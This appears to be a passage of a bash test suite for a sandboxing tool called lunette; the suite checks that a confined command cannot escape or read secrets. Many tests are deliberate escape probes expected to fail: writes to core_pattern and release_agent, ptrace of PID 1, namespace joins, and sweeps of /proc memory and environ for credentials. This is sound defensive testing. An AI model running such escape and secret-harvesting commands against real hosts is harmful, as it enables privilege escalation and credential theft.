#!/usr/bin/env bash
# The cases of run_test.sh, for one user. Each function test_* is one, and runs in a subshell of its
# own directory; it passes when it returns 0 and its name says what it showed. $PLACE holds the
# binary and the probes; in the mount namespace of run_test.sh, $NAMESPACE is set.
set -uo pipefail

lunette=$PLACE/bin/lunette
probe="/usr/bin/python3 $PLACE/bin/probe.py"
uid=$(id -u)
me=$(id -un)
sanitized=$(nm -D --undefined-only "$lunette" 2>/dev/null | grep -c __asan_init)

fail() {
  printf '%s\n' "$*"
  exit 1
}
equal() { [ "$1" = "$2" ] || fail "found '$1', wanted '$2'"; }
skip() {
  printf 'SKIP %s\n' "$*"
  exit 0
}
need_root() { # and an /etc and /run that may be changed
  [ "$uid" = 0 ] || skip "root only"
  [ "$(stat -c %d:%i /etc)" = "$(stat -c %d:%i "$PLACE/etc")" ] || skip "outside of run_test.sh"
}
run() { timeout 20 "$lunette" run "${options[@]}" "$policy" -- "$@"; }
status() { # WANTED COMMAND...
  local wanted=$1 found=0
  shift
  "$@" || found=$?
  [ "$found" = "$wanted" ] || fail "exit status $found, wanted $wanted: $*"
}
# What an attempt inside comes to: "yes", or an error's name.
attempt() { run $probe "$@"; }
refused() { # ERRORS ATTEMPT...: refused with one of the errors
  local found
  found=$(attempt "${@:2}")
  [[ " $1 " == *" $found "* ]] || fail "${*:2}: found '$found', wanted one of: $1"
}
# Something outside that lives as long as the case.
background=()
serve() { # PATH [KIND]
  local ready
  coproc { exec $probe serve "$@"; }
  background+=("$COPROC_PID")
  eval "exec {hold}>&${COPROC[1]}"
  read -r ready <&"${COPROC[0]}" || fail "cannot serve $1"
}
eventually() { # COMMAND...: within 5 s
  local i
  for ((i = 0; i < 100; i++)); do
    "$@" && return 0
    sleep 0.05
  done
  fail "not within 5 s: $*"
}
gone() { ! pgrep -u "$uid" -f "$1" >/dev/null; }
lunette_pid() { pgrep -u "$uid" -o -f "^$lunette run .*$1"; }

options=()
policy=allow-all

# ---- exit status ----

test_exit_status_is_the_commands() {
  for n in 0 1 3 125 255; do status $n run sh -c "exit $n"; done
}
test_exit_status_of_a_signal_is_128_and_its_number() {
  status 143 run sh -c 'kill -TERM $$'
  status 137 run sh -c 'kill -KILL $$'
  status 134 run sh -c 'ulimit -c 0; kill -ABRT $$'
}
test_exit_status_is_127_when_not_found_and_126_when_not_executable() {
  status 127 run no-such-command 2>err
  grep -q '^lunette: cannot run no-such-command: No such file or directory$' err || fail "$(cat err)"
  status 127 run /no/such/file 2>/dev/null
  touch plain && chmod 0644 plain
  status 126 run ./plain 2>/dev/null
  status 126 run / 2>/dev/null
}
test_exit_status_is_125_when_lunette_fails() {
  options=(--events /no/such/dir/file)
  status 125 run true 2>err
  grep -q '^lunette: .*/no/such/dir/file' err || fail "$(cat err)"
  options=(--slot 65535)
  echo 'return { ipv4_pool = "192.168.0.0/24" }' >small.lua
  policy=small.lua
  status 125 run true 2>err
  grep -q 'ipv4_pool' err || fail "$(cat err)"
}
test_exit_status_is_2_for_wrong_arguments_and_policies() {
  status 2 "$lunette" run 2>err
  grep -q 'policy is missing' err || fail "$(cat err)"
  status 2 "$lunette" run allow-all 2>/dev/null
  status 2 "$lunette" run --slot 65536 allow-all true 2>/dev/null
  status 2 "$lunette" run --mtu 1279 allow-all true 2>/dev/null
  status 2 "$lunette" run --mtu 15OO allow-all true 2>/dev/null
  status 2 "$lunette" run --no-such-option allow-all true 2>/dev/null
  status 2 "$lunette" run allow-all --events x true 2>err
  grep -q 'options stand before the policy' err || fail "$(cat err)"
  status 2 "$lunette" run --hide /no/such/file allow-all true 2>/dev/null
  status 2 "$lunette" run no-such-policy.lua touch started 2>err
  grep -q 'no-such-policy.lua' err || fail "$(cat err)"
  echo 'return { rulez = {} }' >bad.lua
  status 2 "$lunette" run bad.lua touch started 2>err
  grep -q 'bad.lua:1' err || fail "$(cat err)"
  [ ! -e started ] || fail "CMD ran under a bad policy"
}
test_help_names_every_option() {
  "$lunette" run --help >help || fail "status $?"
  for option in --show --hide --events --pcap --keylog --control --slot --mtu --verbose; do
    grep -q -e "$option" help || fail "no $option"
  done
}

# ---- what CMD is given ----

test_arguments_arrive_as_they_are() {
  equal "$(run printf '[%s]' a '' 'b  c' -- -x '*')" "[a][][b  c][--][-x][*]"
  equal "$("$lunette" run allow-all printf '[%s]' --help)" "[--help]"
}
test_standard_streams_pass() {
  equal "$(head -c 3000000 /dev/zero | run sh -c 'cat; echo err >&2' 2>err | wc -c)" 3000000
  equal "$(cat err)" err
  run sh -c 'exec <&-' || fail "without input"
  timeout 20 "$lunette" run allow-all true <&- >&- 2>&- || fail "without any"
}
test_descriptors_of_files_and_pipes_pass() {
  equal "$(run cat <(echo hello))" hello
  echo file >f
  equal "$(run cat /dev/fd/7 7<f)" file
}
test_descriptors_of_sockets_and_directories_do_not_pass() {
  serve "$PWD/s"
  options=()
  refused EBADF inherited 8 8<"$PWD"
  found=$(/usr/bin/python3 - "$lunette" <<'EOF'
import os, socket, subprocess, sys
s = socket.socket()
os.set_inheritable(s.fileno(), True)
run = [sys.argv[1], "run", "allow-all", "--", "/usr/bin/python3", os.environ["PLACE"] + "/bin/probe.py", "inherited"]
print(subprocess.run(run + [str(s.fileno())], close_fds=False, capture_output=True, text=True).stdout.strip())
EOF
)
  equal "$found" EBADF
  equal "$(run sh -c 'test -d /dev/fd/0 && echo directory || echo no' </)" no
}
test_modules_of_the_policy_are_hidden_from_cmd() {
  mkdir -p d/sub
  echo 'return { "10.0.0.1" }' >d/hosts.lua
  echo 'return { "10.0.0.2" }' >d/sub/more.lua
  echo 'local l = require "lunette" return { rules = { l.allow(require "hosts"), l.allow(require "sub.more") } }' >d/p.lua
  for at in . d; do
    # shellcheck disable=SC2016
    found=$(cd "$at" && timeout 20 "$lunette" run "$([ $at = . ] && echo d/)p.lua" -- sh -c '
      cd "$0"; for file in p.lua hosts.lua sub/more.lua; do cat $file || echo x >>$file || echo no; done' "$PWD/d" 2>/dev/null)
    equal "$found" $'no\nno\nno'
  done
}
test_a_standard_stream_that_is_a_network_socket_is_refused() {
  found=$(/usr/bin/python3 - "$lunette" <<'EOF'
import socket, subprocess, sys
def run(stdin):
    r = subprocess.run([sys.argv[1], "run", "allow-all", "--", "cat"], stdin=stdin, capture_output=True, text=True)
    return f"{r.returncode}{r.stdout}"
listener = socket.create_server(("127.0.0.1", 0))
tcp = socket.create_connection(listener.getsockname())
a, b = socket.socketpair()
a.sendall(b"pair")
a.shutdown(socket.SHUT_WR)
print(run(tcp), run(socket.socket(type=socket.SOCK_DGRAM)), run(socket.socketpair(type=socket.SOCK_DGRAM)[0]), run(b))
EOF
)
  equal "$found" "125 125 125 0pair"
}
test_environment_directory_umask_limits_and_signals_pass() {
  mkdir d && cd d
  equal "$(A_VARIABLE='x y' run sh -c 'echo "$A_VARIABLE"')" "x y"
  equal "$(run pwd)" "$PWD"
  equal "$(umask 027 && run sh -c umask)" 0027
  equal "$(ulimit -n 123 && run sh -c 'ulimit -n')" 123
  equal "$(ulimit -c 0 && run sh -c 'ulimit -c')" 0
  equal "$(trap '' USR1 && run sh -c 'kill -USR1 $$; echo alive')" alive
  equal "$(run sh -c 'grep -E "^Sig(Blk|Ign)" /proc/self/status | tr -d "\n\t"')" \
    "$(sh -c 'grep -E "^Sig(Blk|Ign)" /proc/self/status | tr -d "\n\t"')"
}
test_ids_are_the_users_own() {
  equal "$(run id -u):$(run id -g)" "$(id -u):$(id -g)"
  run touch mine
  equal "$(stat -c %u mine)" "$uid"
}

# ---- the network ----

test_interface_is_set_up() {
  run ip -o addr >addr
  grep -q 'eth0 .*inet 172.16.0.2/30 ' addr || fail "$(cat addr)"
  grep -q 'eth0 .*inet6 fd42:6d73:62::2/64 ' addr || fail "$(cat addr)"
  grep -q 'lo .*inet 127.0.0.1/8 ' addr || fail "$(cat addr)"
  ! grep -q tentative addr || fail "$(cat addr)"
  run ip -o link show dev eth0 | grep 'LOWER_UP.*mtu 1500 .*link/ether 02:6c:75:00:00:02' >/dev/null || fail "$(run ip link)"
  options=(--slot 300 --mtu 65520)
  run sh -c 'ip -o addr; ip -o link' >addr
  grep -q 'inet 172.16.4.178/30 ' addr || fail "$(cat addr)"
  grep -q 'inet6 fd42:6d73:62:12c::2/64 ' addr || fail "$(cat addr)"
  grep -q 'mtu 65520 .*link/ether 02:6c:75:01:2c:02' addr || fail "$(cat addr)"
}
test_resolver_is_the_gateway() {
  equal "$(run grep -c ^nameserver /etc/resolv.conf)" 2
  equal "$(run sed -n 's/^nameserver //p' /etc/resolv.conf | tr '\n' ' ')" "172.16.0.1 fd42:6d73:62::1 "
}
resolver_at() { # what is done to /etc/resolv.conf first
  need_root
  mv /etc/resolv.conf /etc/resolv.conf.kept
  "$@"
  equal "$(run sh -c 'head -n 2 /etc/resolv.conf | tail -n 1; getent passwd root | cut -d: -f1' | tr '\n' ' ')" "nameserver 172.16.0.1 root "
  rm -f /etc/resolv.conf
  mv /etc/resolv.conf.kept /etc/resolv.conf
}
test_resolver_where_resolv_conf_is_a_link() { resolver_at ln -s resolv.conf.kept /etc/resolv.conf; }
test_resolver_where_resolv_conf_is_a_dangling_link() { resolver_at ln -s /run/systemd/resolve/stub-resolv.conf /etc/resolv.conf; }
test_resolver_where_resolv_conf_is_missing() { resolver_at true; }
test_low_ports_and_echo_sockets_need_no_privilege() {
  equal "$(attempt listen 80)" yes
  equal "$(attempt echo_socket)" yes
  ping=$(command -v ping) || skip "no ping"
  policy=none
  run "$ping" -c 1 -W 0.2 192.0.2.1 >out # executes, although it may have file capabilities
  equal "$?:$(grep -c '1 packets transmitted' out)" 1:1
}
test_events_and_capture_are_written_and_hidden_from_the_command() {
  options=(--events ev --pcap cap)
  policy=none
  run sh -c 'cat ev cap 2>/dev/null && echo READ; echo x >>ev && echo WROTE; rm -f ev && echo REMOVED; exec 3<>/dev/tcp/192.0.2.1/80' >out 2>/dev/null
  run bash -c 'timeout 0.5 bash -c "echo x >/dev/tcp/192.0.2.1/80"; cat ev cap && echo READ; echo x >>ev && echo WROTE' >out 2>/dev/null
  equal "$(cat out)" ""
  grep -q '"kind":"flow_denied".*"dst":"192.0.2.1".*"port":80' ev || fail "$(cat ev)"
  /usr/bin/python3 -c 'import json,sys; [json.loads(l) for l in open("ev")]' || fail "no JSON Lines"
  tcpdump -nr cap 2>/dev/null | grep '192.0.2.1.80: Flags \[S\]' >/dev/null || fail "no SYN in the capture"
  equal "$(stat -c %a ev cap | tr '\n' ' ')" "600 600 "
}
test_functions_of_the_policy_know_the_local_time() {
  need_root
  # Nine hours ahead of UTC, as a version 1 TZif file (RFC 8536) has it.
  /usr/bin/python3 -c 'import struct, sys
sys.stdout.buffer.write(b"TZif" + bytes(16) + struct.pack(">6I", 0, 0, 0, 0, 1, 4) + struct.pack(">iBB", 32400, 0, 0) + b"JST\0")' >zone
  rm -f /etc/localtime && cp zone /etc/localtime
  cat >p.lua <<'EOF'
local lunette = require "lunette"
local function is_ahead() return os.time{ year = 2030, month = 1, day = 1 } > 0 and os.date "%z" == "+0900" end
return { rules = { lunette.deny("*"):when(is_ahead) } }
EOF
  policy=p.lua options=(--events ev)
  run bash -c 'for i in 1 2; do timeout 0.2 bash -c "echo x >/dev/tcp/192.0.2.1/8$i"; done'
  equal "$(grep -c '"kind":"flow_denied".*"rule":1' ev)" 2
}
test_events_go_to_standard_error() {
  options=(--events -)
  policy=none
  run bash -c 'timeout 0.3 bash -c "echo x >/dev/tcp/192.0.2.1/80"' 2>err
  grep -q '"kind":"flow_denied"' err || fail "$(cat err)"
}
test_events_to_a_reader_that_never_reads_do_not_stop_anything() {
  mkfifo fifo
  sleep 30 <>fifo &
  background+=($!)
  options=(--events fifo)
  policy=none
  start=$SECONDS
  run bash -c 'for i in 1 2 3; do timeout 0.1 bash -c "echo x >/dev/tcp/192.0.2.1/8$i"; done; exit 4'
  equal $? 4
  [ $((SECONDS - start)) -lt 10 ] || fail "took $((SECONDS - start)) s"
}

# ---- processes ----

test_only_the_commands_processes_are_seen() {
  equal "$(run sh -c 'ls -d /proc/[0-9]*' | tr '\n' ' ')" "/proc/1 /proc/2 "
  run sh -c "ls /proc/$$" 2>/dev/null && fail "a process of outside is seen"
  return 0
}
test_orphans_are_reaped_and_end_with_the_command() {
  run sh -c 'sh -c "sleep 0.1 & " ; sleep 0.4; ps -eo stat= | grep -c Z' >out
  equal "$(cat out)" 0
  run sh -c 'setsid sleep 471101 >/dev/null 2>&1 & trap "" TERM; exit 0'
  gone 471101 || fail "a daemon outlived CMD"
}
test_command_without_terminal_is_in_a_session_of_its_own() {
  setsid --wait timeout 20 "$lunette" run allow-all sh -c 'kill -KILL 0; sleep 5' </dev/null
  equal $? 137 # and neither lunette nor this script: that would be 125, or nothing
}
test_signals_are_passed_on() {
  for signal in TERM HUP INT QUIT USR1 USR2; do
    rm -f out
    # A shell in the background ignores some, and would pass that on.
    env --default-signal timeout 20 "$lunette" run allow-all \
      sh -c "trap 'echo got; exit 7' $signal; echo up; while :; do sleep 0.05; done # 471107" >out &
    pid=$!
    eventually grep -q up out
    kill -"$signal" "$(lunette_pid 471107)"
    wait $pid
    equal "$signal:$?:$(grep -c got out)" "$signal:7:1"
  done
}
test_first_process_cannot_be_ended_traced_or_read() {
  equal "$(run sh -c 'kill -KILL 1; kill -TERM 1; sleep 0.1; echo alive')" alive
  refused "EPERM EACCES" trace 1
  refused "EPERM EACCES" read_memory 1
  refused "EPERM EACCES" read_vm 1
  refused "EPERM EACCES" read /proc/1/environ
  refused "EPERM EACCES" listdir /proc/1/root/
  for fd in 3 4 5; do
    refused "EPERM EACCES" take_descriptor 1 $fd
    refused "EPERM EACCES ENOENT" read /proc/1/fd/$fd
  done
  refused "EPERM EACCES" in_own_namespace read_memory 1
}
test_lunette_cannot_be_read_by_others_of_its_user() {
  [ "$uid" != 0 ] || skip "root reads everything"
  run sleep 471102 &
  eventually lunette_pid 471102 >/dev/null
  pid=$(lunette_pid 471102)
  for what in "trace $pid" "read_memory $pid" "read_vm $pid" "read /proc/$pid/environ" "listdir /proc/$pid/fd"; do
    # shellcheck disable=SC2086
    found=$($probe $what)
    [[ "$found" == EPERM || "$found" == EACCES ]] || fail "$what: $found"
  done
  kill "$pid"
  wait
}
test_lunette_is_confined() {
  run sleep 471103 &
  eventually pgrep -u "$uid" -x -f "sleep 471103" >/dev/null
  pid=$(lunette_pid 471103)
  for line in CapInh:0000000000000000 CapPrm:0000000000000000 CapEff:0000000000000000 \
    CapBnd:0000000000000000 CapAmb:0000000000000000 NoNewPrivs:1; do
    tr -d '\t' <"/proc/$pid/status" | grep -x "$line" >/dev/null || fail "$line: $(cat "/proc/$pid/status")"
  done
  [ "$sanitized" != 0 ] || grep -q 'Seccomp:.*2' "/proc/$pid/status" || fail "no filter"
  if [ "$uid" = 0 ]; then
    equal "$(ls -A "/proc/$pid/root/")" ""
    equal "$(cut -d' ' -f4 "/proc/$pid/mounts")" "$(grep -o 'ro,.*' "/proc/$pid/mounts" | cut -d' ' -f1)"
    equal "$(wc -l <"/proc/$pid/mounts")" 1
    grep -q '^Max core file size  *0  *0 ' "/proc/$pid/limits" || fail "core files"
    [ "$(readlink "/proc/$pid/ns/user")" != "$(readlink /proc/self/ns/user)" ] || fail "user namespace"
  fi
  kill "$pid"
  wait
}
test_killing_lunette_at_any_moment_leaves_nothing() {
  for i in $(seq 40); do
    "$lunette" run allow-all sh -c 'setsid sleep 471104 & sleep 471104' >/dev/null 2>&1 &
    pid=$!
    sleep "0.0$((RANDOM % 30 + 10))"
    kill -KILL $pid
    wait $pid 2>/dev/null
  done
  eventually gone 471104
  eventually gone "$lunette run allow-all sh -c setsid sleep 471104"
}
test_killing_the_first_process_from_outside_ends_lunette_with_125() {
  run sleep 471105 &
  pid=$!
  eventually pgrep -u "$uid" -x -f "sleep 471105" >/dev/null
  kill -KILL "$(pgrep -o -P "$(lunette_pid 471105)")"
  wait $pid
  equal $? 125
}

# ---- privileges ----

test_capabilities_are_empty_and_stay_so() {
  run sh -c 'grep -h ^Cap /proc/self/status /proc/1/status' | tr -d '\t' >caps
  equal "$(cut -d: -f2 caps | sort -u)" 0000000000000000
  equal "$(run grep -c -E '^(NoNewPrivs:.1|Seccomp:.2)$' /proc/self/status)" 2
}
test_set_user_id_gives_nothing() {
  if [ "$uid" = 0 ]; then
    cp "$(command -v id)" set-id && chown 65534 set-id && chmod 6755 set-id
    equal "$(run ./set-id -u)" 0
    refused "EPERM EINVAL" become 65534
  else
    found=$(find /bin/su /usr/bin/su /usr/bin/mount /usr/bin/passwd -perm -4000 2>/dev/null | head -n 1)
    [ -n "$found" ] || skip "no set-user-id program here"
    equal "$(run grep -c nosuid /proc/mounts)" "$(run grep -c '' /proc/mounts)"
    refused "EPERM EINVAL" become 0
  fi
}
test_root_inside_cannot_change_the_machine() {
  need_root
  for file in /proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/vm/drop_caches /proc/sysrq-trigger; do
    [ ! -e "$file" ] || refused "EROFS EACCES" write "$file"
  done
  for file in /sys/kernel/uevent_helper /sys/power/state /sys/class/net/eth0/mtu /sys/fs/cgroup/*/release_agent; do
    [ ! -e "$file" ] || refused "EROFS EACCES ENOENT" write "$file"
  done
  refused "EROFS EACCES EPERM EINVAL" in_own_namespace remount_writable /proc/sys
  refused EPERM mknod_disk disk
}

# ---- a second way out ----

test_interface_cannot_be_changed_added_or_attached_to() {
  refused EPERM set_interface eth0 0
  refused EPERM set_interface lo 0
  for change in "ip addr add 10.9.9.9/24 dev eth0" "ip link set eth0 address 02:00:00:00:00:01" "ip link del eth0" \
    "ip link add type veth" "ip route add 192.0.2.0/24 dev eth0" "ip rule add from all lookup local"; do
    # shellcheck disable=SC2086
    run $change 2>/dev/null && fail "$change worked"
  done
  refused "EPERM EBUSY EACCES EINVAL" attach_tun eth0
  refused "EPERM EACCES EINVAL" attach_tun mine
  refused "EPERM EBUSY EACCES EINVAL" in_own_namespace attach_tun eth0
  equal "$(run ip -o link | wc -l)" 2
}
test_own_namespaces_hold_no_network() {
  refused "ENODEV EPERM" own_network
  refused "EPERM EACCES" steal_interface eth0
  refused "EPERM EACCES" join /proc/1/ns/net
  refused "EPERM EACCES EINVAL" in_own_namespace join /proc/1/ns/net
}
test_raw_and_packet_sockets_are_refused() {
  refused EPERM family 17 3
  refused EPERM family 2 3 1
  refused EPERM family 2 3 255
  refused EPERM family 10 3 58
}
test_families_that_namespaces_do_not_contain_are_refused() {
  for family in 3 4 5 6 9 15 $(seq 18 46); do refused EAFNOSUPPORT family "$family"; done
  for family in 1 2 10 16; do equal "$(attempt family "$family" 2)" yes; done
  refused EAFNOSUPPORT in_own_namespace family 40
}
test_kernel_helpers_that_lead_out_are_refused() {
  refused ENOSYS io_uring
  refused ENOSYS keyring
  refused ENOSYS request_key
}
test_loopback_of_the_host_is_not_the_guests() {
  port=$((20000 + RANDOM % 10000))
  /usr/bin/python3 -m http.server --bind 127.0.0.1 $port >/dev/null 2>&1 &
  background+=($!)
  eventually sh -c "$probe tcp 127.0.0.1 $port | grep -q yes"
  refused ECONNREFUSED tcp 127.0.0.1 $port
  refused ECONNREFUSED tcp ::1 $port
  found=$(attempt tcp 0.0.0.0 $port)
  [ "$found" != yes ] || fail "0.0.0.0 reaches the host"
}

# ---- what is hidden ----

hidden_socket() { # PATH: not to be reached, and with --show again
  refused "ENOENT EACCES ECONNREFUSED ENOTDIR" unix "$1"
  options=(--show "$1")
  equal "$(attempt unix "$1")" yes
  options=()
}
test_sockets_are_hidden_and_shown() {
  serve "$PWD/agent.sock"
  hidden_socket "$PWD/agent.sock"
  ln -s agent.sock link
  hidden_socket "$PWD/link"
  serve "$PWD/datagram.sock" datagram
  hidden_socket "$PWD/datagram.sock"
}
test_sockets_in_the_users_run_directory_are_hidden() {
  dir=/run/user/$uid
  [ -w "$dir" ] || skip "no $dir"
  mkdir "$dir/podman"
  serve "$dir/bus"
  hidden_socket "$dir/bus"
  serve "$dir/podman/podman.sock"
  hidden_socket "$dir/podman/podman.sock"
  options=(--show "$dir/podman")
  equal "$(attempt unix "$dir/podman/podman.sock")" yes
  refused ENOENT unix "$dir/bus"
  options=()
  refused ENOENT in_own_namespace unix "$dir/bus"
  rm -r "${dir:?}"/{bus,podman}
}
test_sockets_of_engines_and_managers_are_hidden_and_shown() {
  need_root
  mkdir -p /run/containerd /run/dbus /run/systemd/resolve /run/services/deep
  for socket in /run/docker.sock /run/containerd/containerd.sock /run/dbus/system_bus_socket /run/systemd/private \
    /run/systemd/resolve/io.systemd.Resolve /run/services/deep/s.sock; do
    serve $socket
    hidden_socket $socket
  done
  [ ! -L /var/run ] || refused "ENOENT" unix /var/run/docker.sock
  echo kept >/run/services/deep/file
  equal "$(run cat /run/services/deep/file)" kept
}
test_socket_that_comes_back_stays_hidden() {
  need_root
  serve /run/again.sock
  run sh -c "touch up; sleep 1; $probe unix /run/again.sock; ls /run/again.sock" >out 2>/dev/null &
  pid=$!
  eventually test -e up
  rm /run/again.sock
  serve /run/again.sock
  wait $pid
  equal "$(cat out)" ENOENT
}
test_socket_that_only_the_environment_names_is_hidden() {
  need_root
  # Its owner is in another network namespace, as rootless Docker is: no table here lists it.
  unshare --net $probe serve "$PWD/far.sock" <> <(:) >ready &
  background+=($!)
  eventually grep -q ready ready
  equal "$($probe unix "$PWD/far.sock")" yes
  for name in "SSH_AUTH_SOCK=" "DOCKER_HOST=unix://" "DBUS_SESSION_BUS_ADDRESS=unix:path="; do
    equal "$(env "$name$PWD/far.sock" timeout 20 "$lunette" run allow-all $probe unix "$PWD/far.sock")" EACCES
  done
}
test_abstract_sockets_are_out_of_reach() {
  serve "@lunette-test-$uid"
  equal "$($probe unix "@lunette-test-$uid")" yes
  refused ECONNREFUSED unix "@lunette-test-$uid"
  refused ECONNREFUSED in_own_namespace unix "@lunette-test-$uid"
}
test_working_directory_is_no_way_around() {
  dir=/run/user/$uid
  [ -w "$dir" ] || skip "no $dir"
  serve "$dir/bus"
  (cd /run && equal "$(attempt relative "$dir/bus")" ENOENT)
  (cd "$dir" && equal "$(attempt unix bus)" ENOENT)
  rm "$dir/bus"
}
test_policy_is_hidden() {
  echo 'return { policy = "allow-all" }' >p.lua
  policy=p.lua
  refused EACCES read p.lua
  refused "EACCES EROFS" write p.lua
  run sh -c 'mv p.lua q.lua; rm -f p.lua; echo >p.lua; chmod 777 p.lua' 2>/dev/null && fail "it was changed"
  equal "$(cat p.lua)" 'return { policy = "allow-all" }'
  ln -s p.lua link.lua
  policy=link.lua
  refused EACCES read p.lua
  refused EACCES read link.lua
  mkdir below && cd below
  policy=../p.lua
  refused EACCES read ../p.lua
}
test_files_and_directories_are_hidden_on_request() {
  mkdir secrets && echo s >secrets/key && echo s >file
  options=(--hide secrets --hide file)
  refused EACCES read file
  refused EACCES listdir secrets
  refused "EACCES ENOENT" read secrets/key
  options+=(--show file)
  refused EACCES read file
}
test_hiding_cannot_be_undone() {
  echo s >file
  serve "$PWD/s.sock"
  options=(--hide file)
  for action in umount bind_parent; do
    refused "EPERM EINVAL EACCES" $action "$PWD/file"
    refused "EPERM EINVAL EACCES" in_own_namespace $action "$PWD/file"
    refused "EPERM EINVAL EACCES" in_own_namespace $action "$PWD/s.sock"
    refused "EPERM EINVAL EACCES" in_own_namespace $action /run
  done
}
test_interfaces_of_the_host_are_not_in_sys() {
  equal "$(run ls /sys/class/net | sort | tr '\n' ' ')" "eth0 lo "
}

# ---- terminals ----

for scenario in $(grep -oP '^def \K\w+(?=\(\):)' "$PLACE/bin/terminal.py" | grep -vx shell); do
  eval "test_terminal_$scenario() { timeout 60 /usr/bin/python3 '$PLACE/bin/terminal.py' '$lunette' allow-all $scenario; }"
done

# ---- errors, cost ----

test_missing_tun_is_explained() {
  need_root
  unshare --mount sh -c "mount --bind /dev/null /dev/net/tun; '$lunette' run allow-all true" 2>err
  equal $? 125
  grep -q '^lunette: .*tun' err || fail "$(cat err)"
  unshare --mount sh -c "mount -t tmpfs tmpfs /dev/net; '$lunette' run allow-all true" 2>err
  equal $? 125
  grep -q 'modprobe tun' err || fail "$(cat err)"
}
test_tun_for_root_only_is_explained() {
  need_root
  mknod -m 0600 node c 10 200
  unshare --mount sh -c "mount --bind node /dev/net/tun; exec setpriv --reuid 65534 --regid 65534 --clear-groups '$lunette' run allow-all true" 2>err
  equal $? 125
  grep -q 'its mode is 0600 and ought to be 0666' err || fail "$(cat err)"
}
test_forbidden_namespaces_are_explained() {
  unshare --user --map-root-user sh -c "echo 0 >/proc/sys/user/max_user_namespaces; '$lunette' run allow-all true" 2>err
  equal $? 125
  grep -q 'sysctl user.max_user_namespaces' err || fail "$(cat err)"
}
test_masked_proc_is_explained() {
  need_root
  unshare --mount sh -c "mount --bind /dev/null /proc/keys; '$lunette' run allow-all true" 2>err
  equal $? 125
  grep -q 'cannot mount /proc: .*systempaths=unconfined' err || fail "$(cat err)"
}
test_masked_sys_stays_and_is_read_only() {
  need_root
  unshare --mount sh -c "mount -t tmpfs tmpfs /sys/kernel; '$lunette' run allow-all sh -c 'ls /sys/class; $probe write /sys/kernel/x; grep \" /sys\" /proc/mounts'" >out
  equal $? 0
  grep -q '^net$' out || fail "$(cat out)"
  grep -q ' /sys sysfs ro,' out || fail "$(cat out)"
  ! grep ' /sys.* rw,' out || fail "some of /sys can be written"
}
test_inside_lunette_lunette_runs() {
  [ "$uid" != 0 ] || skip "the kernel lets nobody without capabilities map root once more"
  equal "$(run "$lunette" run allow-all sh -c 'ip -o link | wc -l' 2>&1)" 2
}
test_start_takes_little_time_and_memory() {
  now() { /usr/bin/python3 -c 'import time; print(time.monotonic_ns() // 1000)'; }
  run true
  before=$(date +%s%N)
  for _ in $(seq 20); do run true; done
  after=$(date +%s%N)
  ms=$(((after - before) / 20000000))
  run sleep 471106 &
  eventually pgrep -u "$uid" -x -f "sleep 471106" >/dev/null
  pid=$(lunette_pid 471106)
  kb=$(sed -n 's/^VmRSS:[^0-9]*\([0-9]*\).*/\1/p' "/proc/$pid/status")
  kill "$pid"
  wait
  echo "$ms ms from start to end of \`true\`, $kb KiB resident"
  [ "$sanitized" = 0 ] || skip "measured with sanitizers: $ms ms, $kb KiB"
  [ "$ms" -lt 200 ] || fail "too slow, even for a busy machine"
  [ "$kb" -lt 10240 ] || fail "too large"
}

# ---- trust and secrets ----

# A policy with interception and a secret from each source, and what their values are.
with_secrets() {
  echo value-of-file >token
  cat >p.lua <<'EOF'
return {
  policy = "public-only", tls = {},
  secrets = {
    { env = "FILE_TOKEN", from_file = "token", allow_hosts = { "api.example.com" } },
    { env = "ENV_TOKEN", from_env = "REAL_TOKEN", allow_hosts = { "api.example.com" } },
    { env = "COMMAND_TOKEN", command = "echo value-of-$(echo command)", refresh_s = 1, allow_hosts = { "api.example.com" } },
    { env = "GIVEN_TOKEN", value = "value-of-policy", allow_hosts = { "api.example.com" } },
  },
}
EOF
  policy=p.lua
  export REAL_TOKEN=value-of-env ENV_TOKEN=value-of-env FILE_TOKEN=value-of-file
  run true || fail "it cannot be run" # and there is a CA
}
test_cmd_has_placeholders_in_the_place_of_secrets() {
  with_secrets
  run env >out || fail "$(cat out)"
  for name in FILE ENV COMMAND GIVEN; do
    grep -qE "^${name}_TOKEN=.LUNETTE_${name}_TOKEN_[a-z0-9]{16}$" out || fail "$(grep TOKEN out)"
  done
  ! grep -q '^REAL_TOKEN=' out || fail "the variable that a secret comes from is there"
  first=$(grep '^FILE_TOKEN=' out)
  [ "$(run env | grep '^FILE_TOKEN=')" != "$first" ] || fail "the same placeholder twice"
}
test_sources_of_secrets_are_hidden() {
  with_secrets
  refused EACCES read token
  refused EACCES read p.lua
  refused EACCES listdir "$XDG_DATA_HOME/lunette"
  refused "EACCES ENOENT" read "$XDG_DATA_HOME/lunette/ca-key.pem"
  refused "EPERM EINVAL EACCES" in_own_namespace umount "$XDG_DATA_HOME/lunette"
  refused "EPERM EINVAL EACCES" in_own_namespace umount "$PWD/token"
  refused "EPERM EINVAL EACCES" in_own_namespace bind_parent "$PWD/token"
  refused "EPERM EINVAL EACCES ENOENT" in_own_namespace bind_parent "$XDG_DATA_HOME/lunette/ca-key.pem"
  run sh -c 'mv token other; ln token other; rm -f token; mv data/lunette data/mine; mkdir -p data/lunette/x' 2>/dev/null
  equal "$(cat token)" value-of-file
  [ -s data/lunette/ca-key.pem ] || fail "the CA's key was moved"
}
test_a_secret_that_is_replaced_stays_hidden() {
  with_secrets
  mkdir own && echo value-before >own/token
  sed -i 's|from_file = "token"|from_file = "own/token", refresh_s = 1|' p.lua
  run sh -c 'until [ -e go ]; do sleep 0.05; done; cat own/token own/next' >out 2>&1 &
  eventually pgrep -u "$uid" -x -f "sh -c until .*" >/dev/null
  sleep 0.3
  echo value-after >own/next && mv own/next own/token && touch go
  wait
  ! grep value out || fail "$(cat out)"
  grep -q 'Permission denied' out || fail "$(cat out)"
  # In a directory with other things it could not be hidden; then it starts nothing.
  touch own/other
  status 125 run touch started 2>err
  grep -q 'secrets\[1\].from_file: when own/token is replaced, CMD could read it' err || fail "$(cat err)"
  [ ! -e started ] || fail "CMD ran"
  options=(--hide own)
  refused "EACCES ENOENT" read own/token
}
# All that CMD can get at, and all that lunette writes: no value is in it.
test_no_value_is_anywhere() {
  with_secrets
  options=(--events events --pcap pcap --control c.sock -v)
  cat >look.sh <<'EOF'
env
cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/self/mountinfo | tr '\0' '\n'
cat /run/lunette/* /run/lunette/*/* "$PWD"/* "$PWD"/*/*
for pid in /proc/[0-9]*; do timeout 0.1 cat "$pid/mem" "$pid/maps" "$pid/fd/"* </dev/null; done
echo looked
sleep 2
EOF
  run sh look.sh >seen 2>said &
